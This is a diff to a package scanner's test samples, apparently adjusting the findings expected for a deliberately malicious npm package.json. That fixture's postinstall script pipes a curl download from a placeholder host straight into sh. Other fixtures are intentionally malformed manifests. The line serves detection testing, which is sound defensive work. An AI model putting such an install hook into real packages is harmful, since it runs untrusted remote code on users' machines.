@@ -124,7 +124,7 @@ def project_samples():
     yield Sample("evil", "npm/fetches/package.json",
                  dump({"name": "b", "version": "1.0.0", "scripts": {
                      "postinstall": "curl -s https://example.invalid/x | sh"}}),
-                 {"npm-install-script-danger"}, "review")
+                 {"npm-install-script-danger", "behaviour-download-and-run"})
     for name in "overrides", "dependencies", "resolutions":  # a list where a map is expected
         yield Sample("bad", f"npm/list-{name}/package.json",
                      b'{"name": "x", "version": "1.0.0", "%s": ["a": "1"' % name.encode(), {"malformed"})
